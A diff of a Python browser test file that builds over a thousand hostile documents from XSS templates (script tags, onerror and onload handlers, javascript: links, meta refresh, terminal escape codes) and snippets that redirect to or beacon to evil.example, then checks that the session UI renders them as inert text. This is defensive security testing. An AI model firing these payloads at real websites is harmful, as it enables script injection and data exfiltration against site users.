@@ -1,4 +1,4 @@
-"""The pages of a session without a herd: where links lead, a loss of the connection, and a thousand hostile documents."""
+"""The pages of a session without a herd: where links lead, lost connections, and a thousand hostile documents."""
 
 from itertools import product
 from typing import Any
@@ -22,17 +22,39 @@ CODE = (
     "top.location='https://evil.example/'", "document.title='evil'", "confirm(1)", "navigator.sendBeacon('/evil.png')",
 )  # fmt: skip
 PLACES = (
-    "<script>{}</script>", "<img src=/evil.png onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>",
-    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\"></iframe>", "<a href=\"javascript:{}\">x</a>",
-    "[x](javascript:{})", "![x](https://evil.example/?{})", "<details open ontoggle=\"{}\">", "<body onload=\"{}\">",
-    "<input autofocus onfocus=\"{}\">", "<video src=/evil.png onerror=\"{}\">", "<object data=\"javascript:{}\"></object>",
-    "<embed src=\"/evil.png?{}\">", "<link rel=stylesheet href=\"https://evil.example/?{}\">", "<style>@import '/evil.png?{}'</style>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example/?{}\">", "<base href=\"https://evil.example/?{}\">",
-    "<form action=\"https://evil.example/?{}\"><button>x</button></form>", "<math><mtext><img src=/evil.png onerror=\"{}\">",
-    "<template><script>{}</script></template>", "\"><script>{}</script>", "'-{}-'", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
-    "\x1b]52;c;{}\x07", "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07", "</textarea><script>{}</script>", "<!--><script>{}</script>-->",
-    "data:text/html,<script>{}</script>", "<xss style=\"background:url('/evil.png?{}')\">",
-)  # fmt: skip
+    "<script>{}</script>",
+    '<img src=/evil.png onerror="{}">',
+    '<svg onload="{}">',
+    "<svg><script>{}</script></svg>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    '<iframe src="javascript:{}"></iframe>',
+    '<a href="javascript:{}">x</a>',
+    "[x](javascript:{})",
+    "![x](https://evil.example/?{})",
+    '<details open ontoggle="{}">',
+    '<body onload="{}">',
+    '<input autofocus onfocus="{}">',
+    '<video src=/evil.png onerror="{}">',
+    '<object data="javascript:{}"></object>',
+    '<embed src="/evil.png?{}">',
+    '<link rel=stylesheet href="https://evil.example/?{}">',
+    "<style>@import '/evil.png?{}'</style>",
+    '<meta http-equiv=refresh content="0;url=https://evil.example/?{}">',
+    '<base href="https://evil.example/?{}">',
+    '<form action="https://evil.example/?{}"><button>x</button></form>',
+    '<math><mtext><img src=/evil.png onerror="{}">',
+    "<template><script>{}</script></template>",
+    '"><script>{}</script>',
+    "'-{}-'",
+    "${{{}}}",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "\x1b]52;c;{}\x07",
+    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
+    "</textarea><script>{}</script>",
+    "<!--><script>{}</script>-->",
+    "data:text/html,<script>{}</script>",
+    "<xss style=\"background:url('/evil.png?{}')\">",
+)
 WRAPPED = ("{}", "```html\n{}\n```", "<b>{}</b>", "\N{RIGHT-TO-LEFT OVERRIDE}{}")
 DOCUMENTS = [wrap.format(place.format(code)) for code, place, wrap in product(CODE, PLACES, WRAPPED)]
 
@@ -89,7 +111,7 @@ async def test_hidden_tabs_of_sessions_have_no_stream(double: GatewayDouble, tab
 
 
 async def test_session_on_a_phone_without_a_connection(double: GatewayDouble, tab: Page) -> None:
-    """One notice states that the connection is lost; at 360 px nothing has to be scrolled sideways; axe finds nothing."""
+    """One notice states that the connection is lost; at 360 px all of it fits, and axe finds no violation."""
     show(double, messages(3))
     await tab.set_viewport_size({"width": 360, "height": 740})
     await tab.add_init_script("localStorage.setItem('sandherd.theme', 'contrast')")
@@ -110,7 +132,9 @@ async def test_a_thousand_hostile_documents_execute_and_load_nothing(double: Gat
     """In results and in a timeline they are text: no element, dialog, request or navigation comes from them."""
     assert len(DOCUMENTS) >= 1000
     kinds = [("agent.message", "content"), ("agent.error", "error"), ("agent.user_message", "content")]
-    found = [event(number, kinds[number % 3][0], **{kinds[number % 3][1]: text}) for number, text in enumerate(DOCUMENTS, 1)]
+    found = [
+        event(number, kinds[number % 3][0], **{kinds[number % 3][1]: text}) for number, text in enumerate(DOCUMENTS, 1)
+    ]
     show(double, found)
     hit = {"project": "demo", "entity": "sbx-001", "type": "agent.message", "kind": "message", "turn": 1, "matches": []}
     hits = [
@@ -136,8 +160,9 @@ async def test_a_thousand_hostile_documents_execute_and_load_nothing(double: Gat
 
 
 _INERT = """() => [window.evil ?? null,
-    document.querySelectorAll("main :is(img, script, iframe, object, embed, video, svg[onload], link, style, base, meta, b, form[action])").length,
-    [...document.querySelectorAll("a")].filter((link) => !/^https?:/.test(link.protocol) || link.origin !== origin).length]"""
+    document.querySelectorAll(`main :is(img, script, iframe, object, embed, video, svg[onload], link, style, base, meta,
+        b, form[action])`).length,
+    [...document.querySelectorAll("a")].filter((link) => link.origin !== origin).length]"""
 _READ_ALL = """async () => { const feed = document.querySelector("[role=feed]"), seen = new Set();
     for (feed.scrollTop = 0, next = -1; ; ) {
         for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
